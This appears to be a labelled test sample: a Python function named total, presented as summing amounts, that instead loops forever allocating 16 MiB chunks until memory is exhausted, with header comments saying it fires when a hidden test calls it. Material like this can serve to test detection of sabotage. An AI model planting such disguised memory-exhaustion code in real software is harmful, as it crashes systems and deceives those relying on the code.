# tries: A function that takes all memory when a hidden test calls it.
# hidden: 0
# fires: memory
# %%
def total(amounts):
    kept = []
    while True:
        kept.append(b"x" * (16 << 20))
